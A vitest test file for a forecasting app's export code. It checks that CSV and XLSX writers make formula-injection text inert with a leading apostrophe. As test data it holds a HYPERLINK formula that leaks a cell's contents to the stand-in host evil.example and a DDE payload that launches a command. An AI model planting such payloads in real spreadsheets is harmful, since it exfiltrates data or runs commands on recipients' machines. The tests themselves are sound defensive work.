import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { YearSummary } from '../../core/forecast/forecast';
import { csvOf, resultRows } from '../forecastResults/resultsTable';
import { resultsWorkbook } from '../forecastResults/resultsWorkbook';
import { csvCell, toCsv } from './csvWriter';
import { neutraliseText } from './neutralise';
import { workbookBytes } from './xlsxWriter';

const link = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

describe('neutraliseText (OWASP CSV injection)', () => {
  it('makes text starting with =, +, -, @, tab or CR inert with a leading apostrophe', () => {
    for (const text of [link, '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1)', '\tX', '\rX', '- a bullet'])
      expect(neutraliseText(text), text).toBe(`'${text}`);
  });

  it('leaves numbers written out, and ordinary text, as they are', () => {
    for (const text of ['-1234.5', '+7', '-3e5', '1,234', 'Kingston upon Thames', "O'Brien", ''])
      expect(neutraliseText(text), text).toBe(text);
  });
});

describe('the CSV writer', () => {
  it('quotes, neutralises text and keeps negative numbers as numbers', () => {
    expect(csvCell(-1234.5)).toBe('-1234.5');
    expect(csvCell('-1234.5')).toBe('-1234.5');
    expect(csvCell(link)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(
      toCsv(
        [
          ['a', null, 2],
          ['Bristol, City of', undefined, -2],
        ],
        { byteOrderMark: true, lineEnding: '\r\n' },
      ),
    ).toBe('\uFEFFa,,2\r\n"Bristol, City of",,-2\r\n');
  });
});

describe('the XLSX cell writer', () => {
  it('neutralises text cells but keeps the product’s own formulas and numbers', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('S');
    sheet.addRow([link, -1234.5, { formula: 'B1*2', result: -2469 }, '@cmd', 'plain']);
    sheet.getCell('F1').value = { richText: [{ text: '=1+' }, { text: '1' }] };
    sheet.getCell('G1').value = { text: '=evil()', hyperlink: 'https://example.org' };
    const again = new ExcelJS.Workbook();
    await again.xlsx.load((await workbookBytes(book)) as unknown as ArrayBuffer);
    const row = again.getWorksheet('S')!.getRow(1);
    expect(row.getCell(1).value).toBe(`'${link}`);
    expect(row.getCell(2).value).toBe(-1234.5);
    expect(row.getCell(3).formula).toBe('B1*2');
    expect(row.getCell(4).value).toBe("'@cmd");
    expect(row.getCell(5).value).toBe('plain');
    expect(row.getCell(6).text).toBe("'=1+1");
    expect(row.getCell(7).text).toBe("'=evil()");
  });
});

describe('a forecast download with a setting named like a formula (issue 16)', () => {
  const summary = { mean: -1, sd: 0, p5: 0, p10: 0, p25: 0, median: 0, p75: 0, p90: 0, p95: 0 };
  const years = [
    {
      year: 2022,
      groups: {
        total: { total: summary },
        costPence: {},
        bySetting: { [link]: summary, MSS: { ...summary, mean: 12 } },
      },
    },
  ] as unknown as YearSummary[];

  it('comes out inert in the CSV, with the negative mean still a number', () => {
    const csv = csvOf(resultRows(years, () => '2021-22'));
    const lines = csv.trim().split('\n');
    expect(lines[1]).toBe('2022,2021-22,total,total,-1,0,0,0,0,0,0,0,0');
    expect(lines[2]).toBe(
      `2022,2021-22,bySetting,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",-1,0,0,0,0,0,0,0,0`,
    );
    expect(lines[3]).toBe('2022,2021-22,bySetting,MSS,12,0,0,0,0,0,0,0,0');
  });

  it('comes out inert in the XLSX', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(
      (await resultsWorkbook(
        { title: 'Run 1', lines: [] },
        years,
        () => '2021-22',
      )) as unknown as ArrayBuffer,
    );
    const all = book.getWorksheet('All measures')!;
    expect(all.getRow(3).getCell(4).value).toBe(`'${link}`);
    expect(all.getRow(3).getCell(5).value).toBe(-1);
  });
});
